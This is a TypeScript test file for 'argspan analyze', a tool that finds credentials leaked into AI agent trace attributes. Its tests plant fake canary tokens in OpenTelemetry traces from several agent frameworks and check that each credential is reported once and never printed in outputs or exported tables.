      traceId: '7a1ce000000000000000000000000001', spanId: id, parentSpanId: parent, name: 'deploy', startTimeUnixNano: `${1_700_000_000_000_000_000n + BigInt(start)}`, endTimeUnixNano: `${1_700_000_000_000_000_000n + BigInt(end)}`, attributes: attrs(a),
    });
    const spans = [
      span('7a1ce00000000001', '', 0, 10_000, { 'gen_ai.input.messages': JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: 'Deploy billing.' }] }]) }),
      span('7a1ce00000000002', '7a1ce00000000001', 1_000, 9_000, { 'openinference.span.kind': 'TOOL', 'tool.name': 'deploy', 'input.value': args }),
      span('7a1ce00000000003', '7a1ce00000000002', 2_000, 8_000, { 'langfuse.observation.type': 'tool', 'langfuse.observation.input': args }),
    ];
    const file = join(tmp(), 'two-emitters.json');
    writeFileSync(file, JSON.stringify({ resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent' }, spans }] }] }));
    const run = analyzeBin(file, '--format', 'json');
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(1);
    expect(out.findings.map((f) => [f.rule, f.tool, f.key, f.emitter, f.message])).toEqual([
      ['credential_in_attribute', 'deploy', 'note', 'openinference', 'Argument note of deploy, recorded by openinference in input.value (and 1 other attribute(s)), holds a value matching the github-pat credential shape.'],
    ]);
    for (const format of ['table', 'json', 'sarif']) expect(analyzeBin(file, '--format', format).stdout, format).not.toContain(TOKEN);
  });
});

describe('argspan analyze: a call a later prompt repeats in its history', () => {
  // Every later model call sends the conversation again, the tool calls included: those copies
  // are the call's arguments, not findings of their own, unless the user's words beside them hold
  // a credential the arguments do not.
  const TOKEN = 'ghp_C4NARYhistoryTRACEc4naryH1STORYtr4ce';
  const OTHER = 'AKIAQ3EGRSXVB2MN7KLP';
  function pydanticWithToken(): string {
    // Pydantic AI v5's real trace: the call's `x` is in the tool span, the model's proposal, the
    // next prompt's gen_ai.input.messages and the agent run's pydantic_ai.all_messages.
    const text = readFileSync(join(FOREIGN, 'pydantic-ai-v5-format-my-ret.json'), 'utf8').replaceAll('\\"x\\":0', `\\"x\\":\\"${TOKEN}\\"`);
    const file = join(tmp(), 'pydantic.json');
    writeFileSync(file, text);
    return file;
  }
  function semanticKernelWithUserToken(): string {
    // The planted-token SK trace, with a second credential in the user's words of the next prompt.
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'derived/semantic-kernel-token-in-choice.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: unknown[] }[] }) => r.scopeSpans.flatMap((s) => s.spans));
    const next = spans.find((s: { spanId: string }) => s.spanId === 'a1b2c3d4e5f60720');
    const user = next.events.find((e: { name: string }) => e.name === 'gen_ai.user.message').attributes.find((a: { key: string }) => a.key === 'gen_ai.event.content');
    user.value.stringValue = JSON.stringify({ role: 'user', content: `What time is it? my key is ${OTHER}` });
    const file = join(tmp(), 'sk.json');
    writeFileSync(file, JSON.stringify(doc));
    return file;
  }

  it('GenAI messages: one finding for the argument, naming the attribute of the call\'s own span and counting the copies', () => {
    const file = pydanticWithToken();
    expect(readFileSync(file, 'utf8').split(TOKEN).length - 1).toBe(4);
    const r = analyzeBin(file, '--format', 'json');
    expect(r.code).toBe(1);
    expect(parseJson(r).findings.map((f) => [f.rule, f.tool, f.key, f.message])).toEqual([
      ['credential_in_attribute', 'my_ret', 'x', 'Argument x of my_ret, recorded by genai-semconv in gen_ai.tool.call.arguments (and 3 other attribute(s)), holds a value matching the github-pat credential shape.'],
    ]);
    expect(r.stdout + r.stderr).not.toContain(TOKEN);
  });

  it('a tool result echoing the argument\'s credential (the tool span\'s result, the next prompt\'s history) is the same credential, one finding; another credential in the result is one of its own', () => {
    // (Pydantic AI's my_ret returns "1": here the token it was called with, and then also a second credential)
    const echoed = (result: string) => {
      const text = readFileSync(pydanticWithToken(), 'utf8').replaceAll('\\"result\\":\\"1\\"', `\\"result\\":\\"${result}\\"`);
      const doc = JSON.parse(text) as { resourceSpans: { scopeSpans: { spans: { name: string; attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] };
      const tool = doc.resourceSpans.flatMap((r) => r.scopeSpans.flatMap((s) => s.spans)).find((s) => s.name === 'execute_tool my_ret')!;
      tool.attributes.find((a) => a.key === 'gen_ai.tool.call.result')!.value.stringValue = result;
      const file = join(tmp(), 'echo.json');
      writeFileSync(file, JSON.stringify(doc));
      // (the arguments' four copies, the result and its two copies in the histories)
      expect(readFileSync(file, 'utf8').split(TOKEN).length - 1).toBe(7);
      return file;
    };
    const r = analyzeBin(echoed(`token ${TOKEN}`), '--format', 'json');
    expect(r.code).toBe(1);
    expect(parseJson(r).findings.map((f) => [f.rule, f.tool, f.key, f.message])).toEqual([
      ['credential_in_attribute', 'my_ret', 'x', 'Argument x of my_ret, recorded by genai-semconv in gen_ai.tool.call.arguments (and 4 other attribute(s)), holds a value matching the github-pat credential shape.'],
    ]);
    const both = analyzeBin(echoed(`token ${TOKEN} and ${OTHER}`), '--format', 'json');
    const findings = parseJson(both).findings;
    expect(findings.map((f) => [f.rule, f.tool, f.key]).sort()).toEqual([
      // (the other credential: one finding, on the result on the tool span, where it first was; the histories
      // repeating it under other names — the next request's gen_ai.input.messages, the agent run's
      // pydantic_ai.all_messages, which started first but ended last — counted)
      ['credential_in_attribute', 'my_ret', 'gen_ai.tool.call.result'],
      ['credential_in_attribute', 'my_ret', 'x'],
    ]);
    expect(findings.find((f) => f.key === 'gen_ai.tool.call.result')?.message).toMatch(/The same credential is in 2 more place\(s\) like this one\.$/);
    for (const run of [r, both]) for (const value of [TOKEN, OTHER]) expect(run.stdout + run.stderr).not.toContain(value);
  });

  it('a credential the user typed and the model copied into its call, on one model span: the call\'s argument and the user\'s words, two findings (as on two spans)', () => {
    // A model-only trace (no tool span): the call is the model's proposal, on the span that also
    // holds what the model was told. The user's words are not an echo of the call: they were sent
    // to the model's provider with the credential in them.
    const attr = (key: string, value: unknown) => ({ key, value: { stringValue: JSON.stringify(value) } });
    const span = {
      traceId: '5b8aa5a2d2c872e8321cf37308d69df2', spanId: '051581bf3cb55c13', name: 'chat gpt-4o', kind: 3,
      startTimeUnixNano: '1730000000000000000', endTimeUnixNano: '1730000001000000000',
      attributes: [
        { key: 'gen_ai.operation.name', value: { stringValue: 'chat' } },
        attr('gen_ai.input.messages', [{ role: 'user', parts: [{ type: 'text', content: `deploy with my token ${TOKEN}` }] }]),
        attr('gen_ai.output.messages', [{ role: 'assistant', parts: [{ type: 'tool_call', id: 'call_1', name: 'deploy', arguments: { token: TOKEN } }] }]),
      ],
    };
    const file = join(tmp(), 'model-only.json');
    writeFileSync(file, JSON.stringify({ resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'gen_ai' }, spans: [span] }] }] }));
    const r = analyzeBin(file, '--format', 'json');
    expect(parseJson(r).findings.map((f) => [f.rule, f.tool, f.key]).sort()).toEqual([
      ['credential_in_attribute', 'deploy', 'gen_ai.input.messages'],
      ['credential_in_attribute', 'deploy', 'token'],
    ]);
    expect(r.stdout + r.stderr).not.toContain(TOKEN);
  });

  it('a history that also holds a credential of the user\'s: that one is a finding of its own, the copy of the argument\'s is not', () => {
    const r = analyzeBin(semanticKernelWithUserToken(), '--format', 'json');
    expect(parseJson(r).findings.map((f) => [f.rule, f.tool, f.key, f.message])).toEqual([
      // (the choice and the next prompt's history: two copies, both gen_ai.event.content, on two spans)
      ['credential_in_attribute', 'GetCurrentWeather', 'location', 'Argument location of GetCurrentWeather, recorded by genai-semconv in gen_ai.tool.call.arguments (and 2 other attribute(s)), holds a value matching the github-pat credential shape.'],
      // (the user's message is an event of the span whose history event repeats the call, under the same key)
      ['credential_in_attribute', 'GetCurrentWeather', 'gen_ai.event.content', 'Attribute gen_ai.event.content on an event of the span holds a value matching the aws-access-key-id credential shape; no argument of the GetCurrentWeather call it records holds one as the call ran.'],
    ]);
    expect(r.stdout + r.stderr).not.toContain(OTHER);
    expect(r.stdout + r.stderr).not.toContain('ghp_C4NARYf0reignTRACEc4naryF0REIGNtr4ce');
  });
});

describe('argspan analyze: a run input holding a conversation that repeats a call with a credential', () => {
  // fixtures/traces/foreign/README.md: a real call each, a planted token in one argument; a later run is added whose input
  // holds the conversation so far (a LangGraph node under OpenInference, a LangSmith chain run's `{"input": …}`, a Langfuse
  // span's messages): the model's message repeats the call as the trace recorded it. That copy is the call's argument,
  // reported once by tool and key, not again by attribute.
  const TOKEN = 'ghp_' + 'C4NARYrun1nputH1STORYc4naryrunINPUTxy';
  type Attr = { key: string; value: { stringValue?: string } };
  type Span = { spanId: string; parentSpanId?: string; name: string; startTimeUnixNano: string; endTimeUnixNano: string; attributes: Attr[] };
  type Doc = { resourceSpans: { scopeSpans: { spans: Span[] }[] }[] };
  const str = (span: Span, key: string) => span.attributes.find((a) => a.key === key)!.value.stringValue!;
  /** The fixture with `from` changed to `to` in every attribute (as written and inside JSON text), and a run span `run` builds from its spans added after them. */
  function plantedWithRun(file: string, from: string, to: string, run: (spans: Span[]) => { name: string; attrs: Record<string, string> }): string {
    const doc = JSON.parse(readFileSync(join(FOREIGN, file), 'utf8')) as Doc;
    const spans = doc.resourceSpans[0]!.scopeSpans[0]!.spans;
    let copies = 0;
    for (const attr of spans.flatMap((s) => s.attributes)) {
      for (const [a, b] of [[from, to], [JSON.stringify(from).slice(1, -1), JSON.stringify(to).slice(1, -1)]] as const) {
        if (attr.value.stringValue?.includes(a)) {
          attr.value.stringValue = attr.value.stringValue.split(a).join(b);
          copies++;
        }
      }
    }
    expect(copies).toBeGreaterThan(0);
    const last = spans.reduce((a, b) => (BigInt(a.endTimeUnixNano) > BigInt(b.endTimeUnixNano) ? a : b));
    const { name, attrs } = run(spans);
    spans.push({
      ...spans[0]!,
      spanId: 'f0e1d2c3b4a59687',
      name,
      startTimeUnixNano: String(BigInt(last.endTimeUnixNano) + 1000000n),
      endTimeUnixNano: String(BigInt(last.endTimeUnixNano) + 2000000n),
      attributes: Object.entries(attrs).map(([key, v]) => ({ key, value: { stringValue: v } })),
    });
    const path = join(tmp(), file);
    writeFileSync(path, JSON.stringify(doc));
    expect(readFileSync(path, 'utf8').split(TOKEN).length - 1).toBeGreaterThan(copies);
    return path;
  }
  /** A chat conversation: the user's question, the model's call of `tool` with `args` (JSON text), the tool's result. */
  const chat = (ask: string, tool: string, args: string, result: string) => [
    { role: 'user', content: ask },
    { role: 'assistant', content: '', tool_calls: [{ id: 'call_h1st0ry', type: 'function', function: { name: tool, arguments: args } }] },
    { role: 'tool', content: result, tool_call_id: 'call_h1st0ry' },
  ];
  /** The Responses API conversation of the fixture's two requests: the user's message, the first response's `function_call` item as output, the second request's `function_call_output`. */
  const responsesItems = (first: Span, second: Span) => {
    const call = (JSON.parse(str(first, 'output.value')) as { output: { type: string }[] }).output.find((i) => i.type === 'function_call')!;
    const result = (JSON.parse(str(second, 'input.value')) as { input: unknown[] }).input;
    return [{ role: 'user', content: "What's the weather in San Francisco?" }, call, ...result];
  };
  const cases: Record<string, { file: string; from: string; to: string; run: (spans: Span[]) => { name: string; attrs: Record<string, string> }; want: [string, string, string] }> = {
    // (the LLM span's proposals; the node's input: the human message it was sent and the AIMessage of its LLMResult, as LangGraph passes them on)
    'OpenInference, a CHAIN span (LangGraph node)': {
      file: 'openinference-langchain-tool-calls-model-only.json', from: '"b": 12', to: `"b": "12 ${TOKEN}"`,
      run: ([llm]) => {
        const input = JSON.parse(str(llm!, 'input.value')) as { messages: unknown[][] };
        const output = JSON.parse(str(llm!, 'output.value')) as { generations: { message: unknown }[][] };
        return { name: 'agent', attrs: { 'openinference.span.kind': 'CHAIN', 'input.value': JSON.stringify({ messages: [...input.messages[0]!, output.generations[0]![0]!.message] }) } };
      },
      want: ['multiply', 'b', 'openinference'],
    },
    'LangSmith, a chain run\'s {"input": …}': {
      file: 'langsmith-otel-traceable-tool.json', from: '"city":"London"', to: `"city":"London ${TOKEN}"`,
      run: ([, tool]) => ({ name: 'summarise', attrs: { 'langsmith.span.kind': 'chain', 'gen_ai.prompt': JSON.stringify({ input: chat('What is the weather in London?', 'get_weather', str(tool!, 'gen_ai.prompt'), 'It\'s cloudy with 15°C') }) } }),
      want: ['get_weather', 'city', 'langsmith'],
    },
    'Langfuse, a span observation\'s input': {
      file: 'langfuse-langchain-tool-write-document.json', from: '# Title', to: `# Title ${TOKEN}`,
      run: ([tool]) => ({ name: 'agent', attrs: { 'langfuse.observation.type': 'span', 'langfuse.observation.input': JSON.stringify({ messages: chat('Write the document', 'write_document', str(tool!, 'langfuse.observation.input'), 'written') }) } }),
      want: ['write_document', 'content', 'langfuse'],
    },
    // An openai-agents run's input is a Responses API item list (`to_input_list()`): the model's call a `function_call`
    // item `{type, call_id, name, arguments}` with no role, its result a `function_call_output` item.
    'OpenInference, an AGENT span\'s Responses item list': {
      file: 'openinference-openai-responses-function-call.json', from: '"location":"San Francisco"', to: `"location":"San Francisco ${TOKEN}"`,
      run: ([first, second]) => ({ name: 'Assistant', attrs: { 'openinference.span.kind': 'AGENT', 'input.value': JSON.stringify(responsesItems(first!, second!)) } }),
      want: ['get_weather', 'location', 'openinference'],
    },
    'LangSmith, a chain run\'s {"input": …} of Responses items': {
      file: 'openinference-openai-responses-function-call.json', from: '"location":"San Francisco"', to: `"location":"San Francisco ${TOKEN}"`,
      run: ([first, second]) => ({ name: 'Agent workflow', attrs: { 'langsmith.span.kind': 'chain', 'gen_ai.prompt': JSON.stringify({ input: responsesItems(first!, second!) }) } }),
      want: ['get_weather', 'location', 'openinference'],
    },
  };
  it.each(Object.entries(cases))('%s: the token is one finding, by tool and key; never printed', (_, c) => {
    expectOnlyFinding(plantedWithRun(c.file, c.from, c.to, c.run), ['credential_in_attribute', ...c.want], TOKEN);
  });
});

describe('argspan analyze: a model output holding a credential beside a call\'s arguments', () => {
  // One gen_ai.output.messages (an LLM-only trace: the proposal is the call): the text part quotes
  // an AWS key id no argument holds; get_weather's arguments carry a GitHub token and an AWS secret
  // key whose `/` the JSON text writes `\/`. Each credential is reported once: the arguments' by
  // tool and argument, the text's by the attribute.
  const file = join(FOREIGN, 'derived/genai-credentials-in-output-text-and-call.json');
  const CANARIES = ['AKIAC4NARYT3XTPART27', 'ghp_C4NARYf0reignTRACEc4naryF0REIGNtr4ce', 'Xq9sL2vT/8mNbR4kW7zPf/1HcYdJ3uGe6AoQiK5w', 'Xq9sL2vT\\/8mNbR4kW7zPf', '1HcYdJ3uGe6AoQiK5w'];

  it('two findings by argument and one by attribute, in every output; no output, nor any table of the analysis (--db, Parquet), holds a credential', async () => {
    const dir = tmp();
    const dbFile = join(dir, 'run.duckdb');
    const parquet = join(dir, 'parquet');
    const r = analyzeBin(file, '--format', 'json', '--db', dbFile, '--export-parquet', parquet);
    expect(r.code, r.stderr).toBe(1);
    expect(parseJson(r).findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => [f.tool, f.key, f.message])).toEqual([
      ['get_weather', 'env', 'Argument env of get_weather, recorded by genai-semconv in gen_ai.output.messages, holds a value matching the aws-secret-access-key credential shape.'],
      [null, 'gen_ai.output.messages', 'Attribute gen_ai.output.messages on a span holds a value matching the aws-access-key-id credential shape; no argument of the calls of several tools it records holds one as the call ran.'],
      ['get_weather', 'location', 'Argument location of get_weather, recorded by genai-semconv in gen_ai.output.messages, holds a value matching the github-pat credential shape.'],
    ]);
    // The hits are told apart by keyed hashes: three in the attribute, two of them the arguments'.
    expect(await query(dbFile, `SELECT rule_id, hit_no, length(credential_hash) AS n FROM credential_hits ORDER BY hit_no`)).toEqual([
      { rule_id: 'aws-access-key-id', hit_no: 1, n: '32' },
      { rule_id: 'github-pat', hit_no: 2, n: '32' },
      { rule_id: 'aws-secret-access-key', hit_no: 3, n: '32' },
    ]);
    expect(await query(dbFile, `SELECT "key", count(*) AS n FROM argument_credentials a SEMI JOIN credential_hits h ON h.credential_hash = a.credential_hash GROUP BY "key" ORDER BY "key"`)).toEqual([
      { key: 'env', n: '1' },
      { key: 'location', n: '1' },
    ]);
    // The traces' own tables (spans, span_attributes) hold the input as it is; the analysis's never hold a value.
    const derived = ['tool_calls', 'tool_args', 'argument_blobs', 'argument_credentials', 'credential_hits'];
    const outputs = [r.stdout + r.stderr];
    for (const t of derived) outputs.push(JSON.stringify(await query(dbFile, `SELECT * FROM ${t}`)));
    for (const t of derived) outputs.push(readFileSync(join(parquet, `${t}.parquet`)).toString('latin1'));
    expect(readdirSync(parquet)).toEqual(expect.arrayContaining(derived.map((t) => `${t}.parquet`)));
    for (const format of ['table', 'junit', 'sarif', 'html']) {
      const o = analyzeBin(file, '--format', format);
      expect(o.code, format).toBe(1);
      outputs.push(o.stdout + o.stderr);
    }
    for (const out of outputs) for (const canary of CANARIES) expect(out).not.toContain(canary);
  });
});

describe('argspan analyze: a policy denying more than secrets, over another library\'s call that holds a credential', () => {
  it('reports the credential by credential_in_attribute and the call\'s other denied argument by sensitive_arg_dispatched', () => {
    const TOKEN = 'ghp_C4NARYpolicyTRACEc4naryP0LICYtr4ce01';
    const notes = 'Quarterly numbers for the board, region by region. '.repeat(200); // over 8192 characters: bulky
    const attrs = {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'upload_report',
      'gen_ai.tool.call.id': 'call_1',
      'gen_ai.tool.call.arguments': JSON.stringify({ token: TOKEN, notes }),
    };
    const doc = {
      resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent' }, spans: [{
        traceId: '5b8efff798038103d269b633813fc60c', spanId: 'eee19b7ec3c1b174', name: 'execute_tool upload_report', kind: 1,
        startTimeUnixNano: '1764583200000000000', endTimeUnixNano: '1764583201000000000',
        attributes: Object.entries(attrs).map(([key, v]) => ({ key, value: { stringValue: v } })),
      }] }] }],
    };
    const file = join(tmp(), 'traces.json');
    writeFileSync(file, JSON.stringify(doc));
    const found = (...args: string[]) => parseJson(analyzeBin(file, '--format', 'json', ...args)).findings.map((f) => [f.rule, f.tool, f.key]).sort();
    expect(found()).toEqual([['credential_in_attribute', 'upload_report', 'token']]);
    expect(found('--deny-residencies', 'secret,bulky-public')).toEqual([
      ['credential_in_attribute', 'upload_report', 'token'],
      ['sensitive_arg_dispatched', 'upload_report', 'notes'],
    ]);
  });
});
